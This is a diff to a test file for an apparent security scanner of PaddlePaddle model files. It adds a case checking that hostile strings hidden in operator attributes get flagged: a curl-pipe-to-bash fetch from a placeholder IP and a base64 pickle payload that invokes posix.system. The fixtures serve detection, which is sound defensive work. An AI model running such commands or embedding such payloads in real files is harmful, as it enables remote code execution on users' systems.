@@ -59,6 +59,16 @@ describe('programs as protobufs', () => {
     ['medium graph/loads-native', { type: 'tensorrt_engine' }],
   ])('%s', (expected, operation) => expect(judge(paddleProgram([operation]))).toEqual([expected]));
 
+  it.each([
+    ['curl http://192.0.2.1/x.sh | bash'],
+    [Buffer.from('\x80\x04cposix\nsystem\n\x8c\x0aecho inert\x85R.', 'latin1').toString('base64')],
+  ])('do not hide %s among attributes', (text) => {
+    const { worst } = scanBytes(paddleProgram([{ type: 'relu', attributes: { x: text } }]), 'm.pdmodel');
+    expect(worst).toBe('medium');
+    const pir = pirProgram([{ id: '1.relu', texts: { x: text } }]);
+    expect(scanBytes(pir, 'm.json').worst).toBe('medium');
+  });
+
   it('are found where they are cut short, and walked in every block', () => {
     const cut = HONEST.subarray(0, HONEST.length - 40);
     expect(format.identify(probeOf(cut))).toBe('certain');
